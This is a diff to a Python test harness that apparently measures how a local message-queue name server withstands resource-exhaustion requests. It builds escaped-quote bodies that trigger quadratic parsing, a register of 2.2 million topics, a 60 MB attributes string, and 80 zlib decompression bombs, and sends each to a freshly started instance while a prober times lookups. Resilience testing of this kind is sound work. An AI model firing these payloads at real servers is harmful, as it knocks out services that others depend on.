@@ -23,6 +23,7 @@ import time
 import zlib
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
 
@@ -123,88 +124,81 @@ def topic_known(port: int, topic: str) -> bool:
     return answer.code == ResponseCode.SUCCESS
 
 
-def quadratic_register(port: int) -> dict[str, object]:
+Payload = dict[str, Any]
+
+
+def quadratic_register() -> Payload:
     """A compressed REGISTER_BROKER of about a hundred bytes whose data version is 48 KiB of
     escaped quotes, never closed."""
     body = compressed_body(escaped_quotes(48 * 1024), [], 0)
-    sock = connect(port)
-    sock.settimeout(300)
-    answer = roundtrip(sock, register_command(body, compressed=True))[0]
-    sock.close()
-    return {"body_bytes": len(body), "answer": answer.code, "remark": (answer.remark or "")[:90]}
+    return {"command": register_command(body, compressed=True), "body_bytes": len(body)}
 
 
-def quadratic_data_version(port: int) -> dict[str, object]:
+def quadratic_data_version() -> Payload:
     """QUERY_DATA_VERSION with a 16 KiB body of escaped quotes."""
     body = escaped_quotes(16 * 1024)
     ext = {"brokerName": "attacker", "brokerAddr": "127.0.0.9:10911", "clusterName": "c"}
     ext["brokerId"] = "0"
-    sock = connect(port)
-    sock.settimeout(300)
     cmd = RemotingCommand.request(RequestCode.QUERY_DATA_VERSION, ext, body)
-    answer = roundtrip(sock, cmd)[0]
-    sock.close()
-    return {"body_bytes": len(body), "answer": answer.code, "remark": (answer.remark or "")[:90]}
+    return {"command": cmd, "body_bytes": len(body)}
 
 
 MANY_TOPICS = 2_200_000
 
 
-def many_topics(port: int) -> dict[str, object]:
+def many_topics() -> Payload:
     """One compressed register of 2.2 million short-named topics (about 6 MB sent)."""
     records = b"".join(record(b"t%07d 1 1 6 SINGLE_TAG" % i) for i in range(MANY_TOPICS))
     body = compressed_body(b'{"counter":1,"timestamp":1}', records, MANY_TOPICS)
-    del records
-    sock = connect(port)
-    sock.settimeout(600)
-    answer = roundtrip(sock, register_command(body, compressed=True))[0]
-    sock.close()
     return {
+        "command": register_command(body, compressed=True),
         "body_bytes": len(body),
         "topics_sent": MANY_TOPICS,
-        "answer": answer.code,
-        "remark": (answer.remark or "")[:90],
-        "attacker_topic_known": topic_known(port, "t0000001"),
+        "check_topic": "t0000001",
     }
 
 
-def bombs(port: int) -> dict[str, object]:
+def big_attributes() -> Payload:
+    """One topic whose attributes are a 60 MB JSON text (about 60 KB compressed)."""
+    attributes = b'{"a":"' + b"x" * (60 * 1000 * 1000) + b'"}'
+    record_text = record(b"BigAttrs 1 1 6 SINGLE_TAG " + attributes)
+    body = compressed_body(b'{"counter":1,"timestamp":1}', [record_text], 1)
+    return {
+        "command": register_command(body, compressed=True),
+        "body_bytes": len(body),
+        "check_topic": "BigAttrs",
+    }
+
+
+def bombs() -> Payload:
     """80 compressed registers that inflate past every bound (zeros), sent one after another."""
     bomb = zlib.compress(b"\0" * (70 * MIB), 9)
     frame = encode_command(register_command(bomb, compressed=True))
+    return {"frames": [frame] * 80, "bomb_bytes": len(bomb)}
+
+
+def send(port: int, payload: Payload) -> dict[str, object]:
+    """The attack: one request and its answer, or frames sent back to back and their answers."""
     sock = connect(port)
     sock.settimeout(600)
-    for _ in range(80):
-        sock.sendall(frame)
-    codes = answers(sock, 80)
+    outcome: dict[str, object] = {k: v for k, v in payload.items() if k.endswith(("bytes", "sent"))}
+    if "command" in payload:
+        answer = roundtrip(sock, payload["command"])[0]
+        outcome.update(answer=answer.code, remark=(answer.remark or "")[:100])
+    else:
+        for frame in payload["frames"]:
+            sock.sendall(frame)
+        outcome.update(
+            requests=len(payload["frames"]), answers=answers(sock, len(payload["frames"]))
+        )
     sock.close()
-    return {"bomb_bytes": len(bomb), "bombs": 80, "answers": codes}
+    if "check_topic" in payload:
+        outcome["attacker_topic_known"] = topic_known(port, payload["check_topic"])
+    return outcome
 
 
-def big_attributes(port: int) -> dict[str, object]:
-    """One topic whose attributes are a 60 MB JSON text (about 61 KB compressed)."""
-    attributes = b'{"a":"' + b"x" * (60 * 1000 * 1000) + b'"}'
-    body = compressed_body(
-        b'{"counter":1,"timestamp":1}', [record(b"BigAttrs 1 1 6 SINGLE_TAG " + attributes)], 1
-    )
-    del attributes
-    sock = connect(port)
-    sock.settimeout(300)
-    answer = roundtrip(sock, register_command(body, compressed=True))[0]
-    sock.close()
-    return {
-        "body_bytes": len(body),
-        "answer": answer.code,
-        "remark": (answer.remark or "")[:90],
-        "attacker_topic_known": topic_known(port, "BigAttrs"),
-    }
-
-
-ROWS: list[tuple[str, Callable[[int], dict[str, object]]]] = [
-    (
-        "compressed REGISTER_BROKER, 48 KiB of escaped quotes as its data version",
-        quadratic_register,
-    ),
+ROWS: list[tuple[str, Callable[[], Payload]]] = [
+    ("compressed REGISTER_BROKER, its data version 48 KiB of escaped quotes", quadratic_register),
     ("QUERY_DATA_VERSION, 16 KiB of escaped quotes", quadratic_data_version),
     ("compressed REGISTER_BROKER of 2.2 million topics", many_topics),
     ("80 compressed bombs (70 MiB of zeros each)", bombs),
@@ -217,9 +211,10 @@ def main() -> int:
     parser.add_argument("--row", type=int, action="append", help="run only these rows (1-based)")
     parser.add_argument("--tree", type=Path, default=ROOT, help="the checkout to run")
     args = parser.parse_args()
-    for number, (title, attack) in enumerate(ROWS, 1):
+    for number, (title, prepare) in enumerate(ROWS, 1):
         if args.row and number not in args.row:
             continue
+        payload = prepare()  # built before the bystander looks: its thread shares our GIL
         port = free_port()
         proc = start_namesrv(port, None, args.tree.resolve())
         try:
@@ -233,7 +228,7 @@ def main() -> int:
             prober = Prober(port)
             prober.start()
             start = time.perf_counter()
-            outcome = attack(port)
+            outcome = send(port, payload)
             seconds = time.perf_counter() - start
             time.sleep(0.2)  # a few lookups after the answer
             prober.stop()
